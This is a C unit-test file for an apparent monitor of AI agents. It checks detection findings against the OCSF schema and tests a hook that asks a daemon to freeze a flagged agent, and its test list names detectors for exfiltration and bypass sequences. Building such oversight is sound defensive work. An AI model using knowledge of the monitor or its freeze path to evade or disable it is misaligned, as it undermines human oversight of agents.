static void validate_finding(const struct detect_finding *f)
{
	char buf[16384];
	struct ocsf_report r = {0};
	json_object *o;
	int n = detect_finding__encode(f, buf, sizeof(buf));

	assert_true(n > 0);
	o = json_tokener_parse(buf);
	assert_non_null(o);
	if (ocsf_schema__validate(&schema, o, &r)) {
		fprintf(stderr, "%s\n%s", buf, r.text);
		fail();
	}
	json_object_put(o);
}

static void test_findings_schema(void **state)
{
	struct detect_finding f;
	int k, i;

	if (!have_schema)
		skip();
	for (k = 0; k < DETECT_K__COUNT; k++) {
		memset(&f, 0, sizeof(f));
		f.kind = (enum detect_kind)k;
		f.severity_id = (uint8_t)(1 + k % 5);
		f.confidence_id = (uint8_t)(1 + k % 3);
		f.confidence = 70;
		f.feature_type = (uint8_t)(k % DETECT_FT__COUNT);
		f.time_ms = T0;
		f.first_ms = T0 - 1000;
		f.last_ms = T0;
		snprintf(f.feature, sizeof(f.feature), "%s",
			 f.feature_type == DETECT_FT_DST ? "2001:db8::1:443" : "/tmp/\"odd\"\x01");
		f.n_agents = f.agents_total = (uint32_t)(k + 1);
		for (i = 0; i < (int)f.n_agents; i++) {
			snprintf(f.agents[i].uid, sizeof(f.agents[i].uid), "uid-%d", i);
			snprintf(f.agents[i].session, sizeof(f.agents[i].session), "s-%d", i);
			snprintf(f.agents[i].name, sizeof(f.agents[i].name), "claude");
		}
		f.n_evidence = (uint32_t)k;
		for (i = 0; i < k; i++)
			snprintf(f.evidence[i], sizeof(f.evidence[i]), "%d", 1000 + i);
		snprintf(f.explain, sizeof(f.explain), "why: \"%d\"\n", k);
		detect_finding__seal(&f);
		validate_finding(&f);
	}
}

/* Findings from a real run of the detectors validate too. */
static void test_findings_schema_live(void **state)
{
	struct collect c = {0};
	int i;

	if (!have_schema)
		skip();
	run_with_restart(false, &c);
	assert_true(c.n > 0);
	for (i = 0; i < c.n; i++)
		validate_finding(&c.f[i]);
}

/* --- the freeze hook ------------------------------------------------------------------------ */

/* A one-shot daemon stand-in: reads one request line, answers `reply`, exits 0 if the request
 * was a freeze of agent "a-1". */
static pid_t fake_daemon(const char *path, const char *reply)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	int lfd = socket(AF_UNIX, SOCK_STREAM, 0);
	pid_t pid;

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	unlink(path);
	assert_int_equal(bind(lfd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	assert_int_equal(listen(lfd, 1), 0);
	pid = fork();
	if (!pid) {
		char buf[1024];
		ssize_t n = 0, r;
		int fd = accept(lfd, NULL, NULL);

		while (fd >= 0 && n < (ssize_t)sizeof(buf) - 1 &&
		       (r = read(fd, buf + n, sizeof(buf) - 1 - (size_t)n)) > 0) {
			n += r;
			if (memchr(buf, '\n', (size_t)n))
				break;
		}
		buf[n > 0 ? n : 0] = '\0';
		if (write(fd, reply, strlen(reply)) < 0)
			_exit(2);
		_exit(strstr(buf, "\"op\":\"freeze\"") && strstr(buf, "\"agent_uid\":\"a-1\"") ? 0
											       : 1);
	}
	close(lfd);
	return pid;
}

static void test_freeze_hook(void **state)
{
	char path[64];
	pid_t pid;
	int status;

	snprintf(path, sizeof(path), "/tmp/aw-detect-%d.sock", (int)getpid());
	pid = fake_daemon(path, "{\"ok\":true}\n");
	assert_int_equal(detect_respond__freeze(path, "a-1", "test"), 0);
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
	/* A daemon that does not know the op: an error, not a crash. */
	pid = fake_daemon(path, "{\"ok\":false,\"error\":\"unknown op 'freeze'\"}\n");
	assert_int_equal(detect_respond__freeze(path, "a-1", "test"), -EREMOTEIO);
	waitpid(pid, &status, 0);
	unlink(path);
	/* No daemon at all. */
	assert_true(detect_respond__freeze(path, "a-1", "test") < 0);
}

static int setup(void **state)
{
	char root[PATH_MAX];

	/* The 2004 files are part of tests/ocsf/schema-1.8.0; a tree without them skips. */
	if (!ocsf_schema__locate(root, sizeof(root)) || ocsf_schema__open(&schema, root))
		return 0;
	have_schema = schema_file(&schema, "events/findings/detection_finding.json") != NULL;
	return 0;
}

static int teardown(void **state)
{
	if (getenv("AW_OCSF_SCHEMA_FILES") && schema.files) {
		json_object_object_foreach (schema.files, rel, doc) {
			(void)doc;
			printf("%s\n", rel);
		}
	}
	if (have_schema || schema.root[0])
		ocsf_schema__close(&schema);
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse_real_event),
		cmocka_unit_test(test_parse_escapes),
		cmocka_unit_test(test_parse_malformed),
		cmocka_unit_test(test_classify),
		cmocka_unit_test(test_verb_counts_and_skips),
		cmocka_unit_test(test_cms),
		cmocka_unit_test(test_hll),
		cmocka_unit_test(test_features),
		cmocka_unit_test(test_novelty),
		cmocka_unit_test(test_seq_exfil),
		cmocka_unit_test(test_seq_archive),
		cmocka_unit_test(test_seq_bypass),
		cmocka_unit_test(test_rate),
		cmocka_unit_test(test_agents_bounded),
		cmocka_unit_test(test_campaign),
		cmocka_unit_test(test_state_roundtrip),
		cmocka_unit_test(test_findings_schema),
		cmocka_unit_test(test_findings_schema_live),
		cmocka_unit_test(test_freeze_hook),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
